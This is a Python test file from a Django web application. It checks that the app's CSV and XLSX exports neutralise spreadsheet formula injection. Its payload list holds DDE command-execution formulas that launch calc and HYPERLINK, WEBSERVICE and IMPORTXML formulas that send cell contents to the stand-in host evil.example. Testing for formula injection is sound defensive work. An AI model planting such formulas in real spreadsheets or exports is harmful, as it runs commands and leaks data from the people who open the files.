"""What people typed is not run by the spreadsheet that opens a list of ours."""

import csv
import io
from itertools import product

import pytest
from django.apps import apps
from django.db import models
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from indicators import clock
from indicators.spreadsheet import csv_bytes, xlsx_bytes
from tests import make
from tests.search import everything
from tests.security.addresses import all_addresses

pytestmark = pytest.mark.both_databases

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\t="]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example?x="&A1,"ก")',
    'WEBSERVICE(CONCATENATE("https://evil.example/",A1))',
    'IMPORTXML("https://evil.example","//a")',
    "SUM(1+1)*cmd|'calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'RTD("x",,"y")',
    "2000000",
]
PAYLOADS = [sign + body for sign, body in product(SIGNS, BODIES)]


def is_formula(text):
    return text.startswith(tuple(SIGNS))


def cells_of(content, kind):
    """Every text of a file as a spreadsheet would take it; a formula cell of an XLSX stands out."""
    if kind == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        return [cell for row in rows for cell in row]
    found = []
    for row in load_workbook(io.BytesIO(content)).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            found.append(cell.value if isinstance(cell.value, str) else "")
    return found


def test_there_are_at_least_a_hundred_payloads():
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize(
    ("kind", "write"), [("csv", csv_bytes), ("xlsx", lambda head, rows: xlsx_bytes("ก", head, rows))]
)
def test_no_payload_is_a_formula(kind, write):
    cells = cells_of(write(PAYLOADS[:5], [[payload, payload] for payload in PAYLOADS]), kind)
    assert len(cells) >= 2 * len(PAYLOADS)
    assert [cell for cell in cells if is_formula(cell)] == []


def poison():
    """A formula in every text that a list might show."""
    for model in apps.get_models():
        ours = model._meta.app_label in {"accounts", "indicators", "innovation", "appeals"}
        if not ours or model.__name__ in {"Event", "Revision"}:  # append-only
            continue
        for column in model._meta.concrete_fields:
            wanted = column.name in {"name", "full_name", "subject", "number", "title", "narrative", "signer"}
            if wanted and isinstance(column, models.CharField | models.TextField) and not column.unique:
                for place, pk in enumerate(model._base_manager.values_list("pk", flat=True)):
                    text = PAYLOADS[place * 7 % len(PAYLOADS)][: column.max_length or 2000]
                    model._base_manager.filter(pk=pk).update(**{column.name: f"{text} {pk}"})


@pytest.mark.long
def test_no_list_that_can_be_taken_away_holds_a_formula(db, client):
    agency = make.agency()
    everything.build(agency)
    poison()
    client.force_login(make.user(Role.EVALUATOR))
    taken, seen = 0, 0
    with clock.travel(make.at("2021-10-05")):
        addresses = [path for _name, path in all_addresses() if "/1/" not in path and "/x/" not in path]
        addresses += [reverse("score-csv", args=[2564])]
        for path in addresses:
            for kind in ("csv", "xlsx"):
                answer = client.get(path, {"format": kind})
                if "attachment" not in answer.get("Content-Disposition", ""):
                    continue
                found = "csv" if "text/csv" in answer["Content-Type"] else "xlsx"
                cells = cells_of(answer.getvalue() if answer.streaming else answer.content, found)
                taken, seen = taken + 1, seen + sum(cell.startswith("'") for cell in cells)
                assert [cell for cell in cells if is_formula(cell)] == [], path
    assert taken >= 8
    assert seen >= 8, "no formula was in any list: this shows nothing"
